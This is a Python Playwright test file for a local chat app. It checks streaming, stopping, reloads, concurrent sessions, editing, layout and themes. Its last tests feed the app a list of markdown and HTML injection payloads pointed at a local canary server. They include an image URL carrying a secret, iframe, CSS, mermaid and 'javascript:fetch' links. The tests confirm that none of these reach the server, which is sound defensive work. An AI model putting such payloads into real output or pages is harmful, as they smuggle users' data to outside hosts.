"""The app in a real Chromium, on the real starter model: what a person sees, at two widths and in two themes.

Screenshots go to the folder that the environment variable SCREENSHOTS names.
"""

import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from browsing import WAIT, answered, app_process, button, fits, say, stop_button
from playwright.sync_api import expect

pytestmark = [pytest.mark.browser, pytest.mark.real]

LONG = "Write a very long story about a lighthouse keeper, with many chapters."
# What moved without the person having done anything: the parts of Web Vitals' "cumulative layout shift".
SHIFTS = """() => { window.shifts = []; new PerformanceObserver(list => window.shifts.push(
    ...list.getEntries().map(each => each.value))).observe({type: "layout-shift"}) }"""
GOOD = 0.05  # half of what web.dev/articles/cls calls good


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, starter_path: Path) -> Iterator[str]:
    """The app on the starter model."""
    with app_process(tmp_path_factory.mktemp("app")) as address:
        yield address


def test_an_answer_streams_and_is_there_after_a_reload(app, tab, shoot):
    page = tab(app)
    shoot(page, "first-run")
    say(page, "Name three colours of a sunset, and tell me in ten sentences where each comes from.")
    writing = page.get_by_text("▍")
    expect(writing).to_be_visible(timeout=WAIT)
    early = writing.inner_text()
    text = answered(page)
    assert len(text) > len(early), "It grew."
    expect(page.get_by_text(re.compile(r"tokens/s · \d+ evaluated / \d+ cached"))).to_be_visible()
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_enabled()
    shoot(page, "answered")
    page.reload()
    assert answered(page) == text
    expect(page.get_by_label("Chat message from user")).to_contain_text("Name three colours")


def test_nothing_jumps_while_an_answer_is_written(app, tab):
    page = tab(app)
    say(page, "Count to three.")
    answered(page)
    say(page, LONG)
    expect(page.get_by_text("▍")).to_be_visible(timeout=WAIT)
    page.evaluate(SHIFTS)
    answered(page)
    assert sum(page.evaluate("window.shifts")) < GOOD
    # Everything, and not a message: the list of them keeps its end in view.
    page.locator("#stMain").evaluate("all => Object.assign(all.style, {position: 'relative', top: '300px'})")
    page.wait_for_function("least => window.shifts.reduce((a, b) => a + b, 0) >= least", arg=GOOD)  # it is seen


@pytest.mark.parametrize("how", ["button", "Escape"])
def test_a_stopped_answer_is_kept_and_marked(app, tab, shoot, how):
    page = tab(app)
    say(page, LONG)
    expect(page.get_by_text("▍")).to_be_visible(timeout=WAIT)
    shoot(page, "streaming")
    stop_button(page).click() if how == "button" else page.keyboard.press("Escape")
    expect(page.get_by_text("Stopped")).to_be_visible(timeout=WAIT)
    text = answered(page)
    shoot(page, "stopped")
    page.reload()
    assert answered(page) == text


def test_reload_while_it_writes_goes_on_watching(app, tab):
    page = tab(app)
    say(page, LONG)
    expect(page.get_by_text("▍")).to_be_visible(timeout=WAIT)
    page.reload()
    expect(page.get_by_label("Chat message from user")).to_have_count(1, timeout=WAIT)
    assert answered(page)
    expect(page.get_by_text("Stopped")).to_have_count(0)
    expect(page.get_by_label("Chat message from user")).to_have_count(1)


def test_two_people_at_once_do_not_mix(app, tab, shoot):
    one, two = tab(app), tab(app, theme="dark")
    say(one, "ALPHA. Write eight sentences about a lighthouse keeper.")
    say(two, "OMEGA. Write eight sentences about a lighthouse keeper.")
    for page in (one, two):
        expect(page.get_by_text("▍")).to_be_visible(timeout=WAIT)
    shoot(two, "two-at-once")
    for page, mine, other in ((one, "ALPHA", "OMEGA"), (two, "OMEGA", "ALPHA")):
        answered(page)
        messages = " ".join(page.get_by_test_id("stChatMessage").all_inner_texts())
        assert mine in messages
        assert other not in messages
    assert one.url != two.url


def test_edit_copy_rename_and_delete(app, tab, shoot):
    page = tab(app)
    say(page, "Say yes.")
    answered(page)
    button(page, "edit-0").click()
    page.get_by_label("Your message").fill("Say no.")
    shoot(page, "edit")
    button(page, "edit-0-send").click()
    expect(page.get_by_label("Chat message from user")).to_have_text(re.compile("^Say no"), timeout=WAIT)
    text = answered(page)
    button(page, "copy-1").click()
    popover = page.get_by_test_id("stPopoverBody")
    popover.get_by_role("button", name=re.compile("copy", re.IGNORECASE)).click()
    assert page.evaluate("navigator.clipboard.readText()").startswith(text[:10])
    page.keyboard.press("Escape")
    button(page, "more").click()
    page.get_by_label("Title").fill("Yes and no")
    page.get_by_label("Title").press("Enter")
    expect(page.locator(".st-key-chats-open")).to_contain_text("Yes and no", timeout=WAIT)
    with page.expect_download() as saved:
        page.get_by_role("button", name="Save as Markdown").click()
    assert saved.value.suggested_filename == "Yes-and-no.md"
    assert "Say no." in Path(saved.value.path()).read_text()
    page.get_by_role("button", name="Delete …").click()
    page.locator(".st-key-delete-yes button").click()
    expect(page.get_by_text("What shall we talk about?")).to_be_visible(timeout=WAIT)


@pytest.mark.parametrize(("width", "theme"), [(1440, "light"), (390, "dark")])
def test_it_fits_and_follows_the_theme(app, tab, shoot, width, theme):
    page = tab(app, width, theme)
    fits(page)
    shoot(page, f"first-{width}-{theme}")
    say(page, "Write a Python function that adds two numbers. Then a table with one very-long-word-" + "x" * 150)
    fits(page)
    answered(page)
    fits(page)
    shoot(page, f"chat-{width}-{theme}")
    for name in ("model", "style"):
        button(page, f"pick-{name}").click()
        expect(page.get_by_test_id("stPopoverBody")).to_be_visible()
        fits(page)
        shoot(page, f"{name}-{width}-{theme}")
        page.keyboard.press("Escape")
        expect(page.get_by_test_id("stPopoverBody")).to_have_count(0)
    dark = page.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor") == "rgb(28, 24, 22)"
    assert dark == (theme == "dark")


class Canary(BaseHTTPRequestHandler):
    """Notes every GET; a POST is answered like OpenAI's chat completions, with the server's `text` as a stream."""

    protocol_version = "HTTP/1.0"

    def do_GET(self) -> None:
        self.server.hits.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        for line in self.server.text.splitlines(keepends=True):  # type: ignore[attr-defined]
            delta = {"choices": [{"index": 0, "delta": {"role": "assistant", "content": line}}]}
            self._event({"id": "1", "object": "chat.completion.chunk", "created": 0, "model": "x", **delta})
            time.sleep(0.1)  # long enough for the page to draw each state
        self.wfile.write(b"data: [DONE]\n\n")

    def _event(self, data: dict[str, Any]) -> None:
        self.wfile.write(b"data: " + json.dumps(data).encode() + b"\n\n")

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def canary() -> Iterator[ThreadingHTTPServer]:
    """A server that must not be asked for anything by the browser."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Canary)
    server.hits, server.text = [], ""  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


HOSTILE = """\
![a](CANARY/image?q=SECRET)
![b][ref] and ![ref]

[ref]: CANARY/reference

<img src="CANARY/img"> <svg><image href="CANARY/svg"/></svg> <style>body{background:url(CANARY/css)}</style>
<iframe src="CANARY/iframe"></iframe><link rel="prefetch" href="CANARY/prefetch">

:::x
```
:::
![c](CANARY/directive)
```
:::

$$
```
$$
![d](CANARY/formula)
```

[^1]: ```
![e](CANARY/footnote)
```

> ```mermaid
> flowchart LR
>   A@{ img: "CANARY/mermaid", label: "x" }
> ```

```mermaid
flowchart LR
  B@{ img: "CANARY/mermaid2", label: "x" }
```

[click](javascript:fetch('CANARY/script')) [data](data:text/html,x) [plain](CANARY/link) <CANARY/autolink>
\x1b[31mred\x1b[0m :material/home: | a |
"""


def test_row_24_hostile_text_makes_no_request(tab, canary, browser, tmp_path):
    here = f"http://127.0.0.1:{canary.server_port}"
    hostile = HOSTILE.replace("CANARY", here)
    canary.text = hostile
    server = {"PHIRESIDE_MODEL": "openai:x", "PHIRESIDE_OPENAI_BASE_URL": f"{here}/v1"}
    with app_process(tmp_path / "data", **server) as address:
        page = tab(address)
        say(page, hostile)
        expect(stop_button(page)).to_have_count(0, timeout=WAIT)
        expect(page.get_by_text("red")).not_to_have_count(0)
        page.reload()
        expect(page.get_by_test_id("stChatMessage")).to_have_count(2, timeout=WAIT)
        page.wait_for_timeout(1500)
        assert canary.hits == []
        messages = page.get_by_test_id("stChatMessage")
        # The headers alone would have held the requests back: the page must not even try.
        assert messages.locator("img, image, iframe, object, embed, link, style, svg[id^=mermaid]").count() == 0
        assert messages.locator("a[href^='javascript:' i]").count() == 0
        assert messages.locator(f"a[href='{here}/link']").count() == 2, "A link stays a link."
        page.close()  # it would miss the server
    control = browser.new_page()
    control.set_content(f"<img src='{here}/control'>")
    control.wait_for_timeout(500)
    control.close()
    assert canary.hits == ["/control"], "The canary can be reached."


def test_headers_hold_back_what_gets_into_the_page_all_the_same(app, browser, canary):
    page = browser.new_page()
    page.goto(app)
    page.evaluate(
        f"document.body.append(Object.assign(new Image(), {{src: 'http://127.0.0.1:{canary.server_port}/x'}}))"
    )
    page.wait_for_timeout(500)
    page.close()
    assert canary.hits == []
